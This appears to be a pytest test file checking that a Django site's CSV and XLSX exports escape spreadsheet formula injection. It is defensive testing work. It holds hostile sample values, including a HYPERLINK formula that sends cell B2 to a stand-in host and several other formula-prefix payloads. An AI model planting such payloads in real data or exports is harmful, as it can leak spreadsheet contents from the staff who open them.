"""Every CSV the site produces escapes the cells a spreadsheet would run as a formula,
email columns included, through the one writer in home/spreadsheets.py.

A display name such as `=HYPERLINK("https://example.org/?"&B2,"Open")` runs when staff
open the export in a spreadsheet. Each export below carries a hostile name and a
hostile (but valid) email address.
"""

import csv
import io
from datetime import date

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from openpyxl import load_workbook

from home.spreadsheets import FORMULA_STARTS
from members.models import EventReply, ReplyStatus
from programmes.models import Application, ProgrammeAccess, ProgrammeOutcomeFigure
from stories.models import Subscriber
from tests.factories import ProgrammePageFactory
from tests.members.factories import EventFactory, ProfileFactory, StaffFactory, UserFactory

HOSTILE_NAME = '=HYPERLINK("https://example.org/?"&B2,"Open")'
HOSTILE_EMAIL = "=1+2@example.org"
OTHER_HOSTILE = ["+SUM(1)", "-2+3", "@SUM(1)", "\t=1", "\r=1"]


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    return list(csv.reader(io.StringIO(response.content.decode())))


def assert_no_formula(rows):
    """No cell starts as a formula would; the hostile texts are there, quoted."""
    cells = [cell for row in rows for cell in row]
    assert all(not cell.startswith(FORMULA_STARTS) for cell in cells), [
        cell for cell in cells if cell.startswith(FORMULA_STARTS)
    ]
    return cells


@pytest.fixture
def hostile_member(db):
    return ProfileFactory(
        display_name=HOSTILE_NAME, user__email=HOSTILE_EMAIL, staff_export_consent=True
    ).user


def test_the_members_export_escapes_names_and_emails(client, staff, hostile_member):
    client.force_login(staff)
    cells = assert_no_formula(rows_of(client.get(reverse("members_admin:export_csv"))))
    assert "'" + HOSTILE_NAME in cells
    assert "'" + HOSTILE_EMAIL in cells


def test_the_attendee_export_escapes_names_and_emails(client, staff, hostile_member):
    event = EventFactory()
    EventReply.objects.create(event=event, user=hostile_member, status=ReplyStatus.CONFIRMED)
    client.force_login(staff)
    response = client.get(reverse("members:attendees", args=[event.public_id]), {"format": "csv"})
    cells = assert_no_formula(rows_of(response))
    assert "'" + HOSTILE_NAME in cells
    assert "'" + HOSTILE_EMAIL in cells


def test_the_applications_export_escapes_names_emails_and_answers(client, open_programme):
    Application.objects.create(
        programme=open_programme,
        name=HOSTILE_NAME,
        email=HOSTILE_EMAIL,
        phone="+44 20 7946 0000",
        answers=[{"question": "Why do you want to join?", "answer": OTHER_HOSTILE[2]}],
    )
    reviewer = StaffFactory(is_superuser=True)
    ProgrammeAccess.objects.create(programme=open_programme, user=reviewer)
    client.force_login(reviewer)
    response = client.get(f"/admin/programmes/{open_programme.pk}/applications/?format=csv")
    cells = assert_no_formula(rows_of(response))
    assert {"'" + HOSTILE_NAME, "'" + HOSTILE_EMAIL, "'" + OTHER_HOSTILE[2]} <= set(cells)


def test_the_subscribers_export_escapes_emails(client, db):
    for email in (HOSTILE_EMAIL, "-2+3@example.org", "+1@example.org"):
        Subscriber.objects.create(email=email, status="confirmed", consented_at="2024-01-01T00:00Z")
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    cells = assert_no_formula(rows_of(client.get(reverse("stories_export_subscribers"))))
    assert {"'" + HOSTILE_EMAIL, "'-2+3@example.org", "'+1@example.org"} <= set(cells)


@pytest.fixture
def hostile_programme(programme_index):
    programme = ProgrammePageFactory(
        parent=programme_index,
        title="@Together",
        slug="together",
        start_date=date(2015, 10, 1),
        end_date=date(2017, 9, 30),
        application_deadline=None,
    )
    ProgrammeOutcomeFigure.objects.create(
        page=programme,
        locale=programme.locale,
        label=HOSTILE_NAME,
        unit="-people",
        delivered=3,
        target=4,
        sort_order=0,
    )
    editor = UserFactory(email="editor@example.org")
    editor.groups.add(Group.objects.get(name="Editors"))
    return programme, editor


def test_the_impact_export_escapes_titles_and_labels(client, hostile_programme):
    programme, editor = hostile_programme
    client.force_login(editor)
    cells = assert_no_formula(rows_of(client.get(reverse("programmes_impact:export_csv"))))
    assert "'" + HOSTILE_NAME in cells
    assert "'@Together" in cells


def test_the_funder_report_exports_escape_titles_and_labels(client, hostile_programme):
    programme, editor = hostile_programme
    client.force_login(editor)
    response = client.get(reverse("programmes_impact:report_csv", args=[programme.pk]))
    cells = assert_no_formula(rows_of(response))
    assert "'" + HOSTILE_NAME in cells
    workbook = load_workbook(
        io.BytesIO(
            client.get(reverse("programmes_impact:report_xlsx", args=[programme.pk])).content
        )
    )
    values = [
        cell for sheet in workbook for row in sheet.iter_rows(values_only=True) for cell in row
    ]
    assert "'" + HOSTILE_NAME in values
    assert not any(isinstance(v, str) and v.startswith(FORMULA_STARTS) for v in values)
